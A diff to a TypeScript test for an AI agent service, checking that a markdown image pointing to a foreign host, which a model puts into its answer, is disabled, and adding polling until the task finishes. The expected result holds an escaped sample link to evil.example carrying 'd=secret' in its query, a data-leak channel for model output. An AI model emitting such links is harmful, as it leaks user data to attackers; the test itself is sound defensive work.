@@ -48,10 +48,16 @@ afterAll(async () => {
 describe('An image on a foreign host that a model puts into its words', () => {
   it('is disabled in the answer of an agent task', LIMIT, async () => {
     const response = await service.request('POST', '/v1/agents/tasks', { task: 'Draw a chart.' });
-    const body = (await response.json()) as AgentTaskBody;
+    const { ledger_ref } = (await response.json()) as AgentTaskBody;
+    const path = `/v1/agents/tasks/${ledger_ref}`;
+    const show = async (): Promise<AgentTaskBody> =>
+      (await (await service.request('GET', path)).json()) as AgentTaskBody;
+    // On a busy machine the caller is let go before the end.
+    await expect.poll(async () => (await show()).status).not.toBe('running');
+    const body = await show();
     expect(body.result).toContain(String.raw`![chart]\(https[:]//evil.example/p.png?d=secret)`);
     expect(body.disabled_links).toEqual(['evil.example']);
-    const read = await service.request('GET', `/v1/agents/tasks/${body.ledger_ref}`);
+    const read = await service.request('GET', path);
     expect(await read.text()).not.toMatch(LIVE);
   });
 
